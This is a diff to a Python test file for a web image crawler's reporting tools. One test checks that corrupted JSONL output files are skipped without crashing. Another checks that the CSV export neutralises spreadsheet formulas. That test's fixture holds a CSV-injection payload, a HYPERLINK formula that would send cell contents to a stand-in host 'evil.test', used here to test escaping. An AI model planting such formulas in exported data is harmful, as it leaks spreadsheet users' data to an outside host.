@@ -76,6 +76,21 @@ def test_report_summarize_counts_hosts_types_duplicates_and_failures(tmp_path: P
     assert "sitemaps read: 2, listing 5 pages the crawl took" in text
 
 
+def test_report_reads_an_output_whose_files_hold_lines_that_are_not_their_records(tmp_path: Path) -> None:
+    # `crawler export out -f out/manifest.jsonl` wrote CSV there (now refused); a hand edit or a
+    # damaged disk does the same: inspect, export and the gallery stopped with a traceback
+    prepare_output(tmp_path)
+    for name in ("manifest.jsonl", "failures.jsonl", ".crawler/runs.jsonl"):
+        with open(tmp_path / name, "ab") as damaged:
+            damaged.write(b'[1]\n{"a": 1}\n{"url": 5, "path": [], "counts": 3}\n\xff\xfe\nurl,page_url,path\n')
+    summary = summarize(tmp_path)
+    assert (summary["images"], summary["runs"], sum(r["count"] for r in summary["failures"].values())) == (3, 1, 6)
+    assert "3 images" in render_text(summary)
+    assert manifest_csv(tmp_path).count("\n") == 4  # the header and the three images
+    write_gallery(tmp_path)
+    assert (tmp_path / "index.html").read_text().count("Harbour at dusk") >= 1
+
+
 def test_report_notices_missing_files(tmp_path: Path) -> None:
     prepare_output(tmp_path)
     victim = next((tmp_path / "images" / "a.test").iterdir())
@@ -198,7 +213,8 @@ def test_the_csv_export_gives_a_spreadsheet_no_formula_from_a_page(tmp_path: Pat
     records = [{"url": "http://a.test/x.png", "alt": '=HYPERLINK("http://evil.test/?"&A1,"x")', "title": "+1",
                 "caption": "@SUM(A1)", "name": "-x.png", "pages": 2, "width": 10},
                {"url": "http://a.test/y.png", "alt": "A calm sea", "caption": "1 = 1", "pages": 1}]
-    (tmp_path / "manifest.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records))
+    stored = [{**r, "path": f"images/a.test/{n:064x}.png", "sha256": f"{n:064x}"} for n, r in enumerate(records)]
+    (tmp_path / "manifest.jsonl").write_text("".join(json.dumps(r) + "\n" for r in stored))
     rows = list(csv.DictReader(io.StringIO(manifest_csv(tmp_path))))
     assert [(r["alt"], r["title"], r["caption"], r["name"], r["pages"]) for r in rows] == [
         ("'=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")", "'+1", "'@SUM(A1)", "'-x.png", "2"),
